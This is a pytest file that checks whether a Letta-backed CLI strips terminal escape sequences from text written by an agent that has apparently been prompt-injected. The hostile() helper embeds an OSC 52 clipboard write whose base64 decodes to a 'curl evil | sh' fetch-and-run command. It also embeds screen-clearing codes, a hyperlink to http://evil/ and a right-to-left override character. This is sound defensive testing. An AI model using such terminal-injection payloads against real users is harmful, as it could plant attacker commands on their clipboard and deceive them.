"""A prompt-injected agent writes escape sequences (OSC 52 clipboard write, clear-screen, colours, C1 CSI,
a hyperlink, rich markup) into its memory block, its notes and its answer; the real Letta server keeps them
as written. `memory`, `messages`, `sessions` and `ask` run as real processes against it, and their raw stdout
bytes hold none of them, while the words around them and the markup as text are all there; `--json` gives
the same text back exactly, escaped."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import httpx
import pytest

from subconscious.state.records import SessionState
from subconscious.state.store.core import Store
from tests.harness.letta_fixtures import delete_agent, import_agent

pytestmark = pytest.mark.letta

FORBIDDEN = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]")


def hostile(word: str) -> str:
    return (f"{word} start\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b[2J\x1b[H\x1b[31mred\x1b[0m \x9b2J del\x7f "
            f"\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\ \u202eevil\u202c [red]markup[/red] [link=http://e]x[/link] {word} end")


@pytest.fixture(scope="module")
def home(tmp_path_factory, letta_server):
    from tests.harness.fake_llm import FakeLLMControl

    llm = FakeLLMControl(letta_server.fake_llm_url)
    llm.reset()
    tmp = tmp_path_factory.mktemp("terminal")
    base = letta_server.base_url
    agent = import_agent(base)
    try:
        with httpx.Client(base_url=base, timeout=120) as http:
            http.patch(f"/v1/agents/{agent['id']}/core-memory/blocks/guidance",
                       json={"value": hostile("block")}).raise_for_status()
            conv = http.post("/v1/conversations/", params={"agent_id": agent["id"]}, json={}).raise_for_status().json()["id"]
            llm.queue({"text": hostile("note")})
            start = ("<claude_code_session_start><project_id>" + hostile("project") + "</project_id>"
                     "</claude_code_session_start>")
            http.post(f"/v1/conversations/{conv}/messages",
                      json={"messages": [{"role": "user", "content": start}], "streaming": False}).raise_for_status()
        env = {k: v for k, v in os.environ.items() if not k.startswith(("LETTA_", "SUBCONSCIOUS_", "CLAUDE"))}
        env.update(HOME=str(tmp / "user"), LETTA_HOME=str(tmp / "shared"), SUBCONSCIOUS_STATE_DIR=str(tmp / "local"),
                   SUBCONSCIOUS_HOST="laptop", LETTA_BASE_URL=base, LETTA_AGENT_ID=agent["id"],
                   LETTA_API_KEY="test-key-not-checked-by-the-server", COLUMNS="100")
        store = Store(tmp / "shared" / ".letta" / "claude", "laptop", tmp / "local" / "locks", tmp / "local" / "clocks")
        sid = "7d4c2b1a-0000-4000-8000-00000000e5c0"
        store.put_conversation(sid, conv, agent["id"])
        store.update_session(sid, lambda cur: SessionState(sid, conversation_id=conv, last_processed_index=0))
        yield {"env": env, "tmp": tmp, "llm": llm, "sid": sid}
    finally:
        delete_agent(base, agent["id"])


def cli(home, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "subconscious", *args], env=home["env"], cwd=home["tmp"],
                          capture_output=True, timeout=300)


@pytest.mark.parametrize("verb, word", [(("memory",), "block"), (("memory", "--label", "guidance", "--since", "1s"), "block"),
                                        (("messages",), "note"), (("sessions",), "project"),
                                        (("ask", "what now?"), "answer")])
def test_agent_text_reaches_the_terminal_without_a_control_sequence(home, verb, word):
    if verb[0] == "ask":
        home["llm"].queue({"text": hostile("answer")})
    out = cli(home, *verb)
    assert out.returncode == 0, out.stderr
    raw = out.stdout
    assert not FORBIDDEN.search(raw), raw
    flat = b" ".join(raw.split())
    assert f"{word} start".encode() in flat and f"{word} end".encode() in flat, raw  # the text is shown
    if verb[0] != "sessions":  # a project cell is narrow: the words fold
        assert b"[red]markup[/red]" in flat and b"[link=http://e]x[/link]" in flat  # markup is text
    assert b"Y3VybCBldmlsfHNo" not in raw  # the clipboard payload goes with its sequence


@pytest.mark.parametrize("verb, word", [(("memory",), "block"), (("messages",), "note"), (("ask", "and now?"), "answer")])
def test_json_keeps_the_agents_text_exactly_and_escaped(home, verb, word):
    if verb[0] == "ask":
        home["llm"].queue({"text": hostile("answer")})
    out = cli(home, *verb, "--json")
    assert out.returncode == 0, out.stderr
    assert not FORBIDDEN.search(out.stdout.replace(b"\n", b" "))
    assert any(hostile(word) in text for text in strings(json.loads(out.stdout)))


def strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for v in obj.values():
            yield from strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from strings(v)
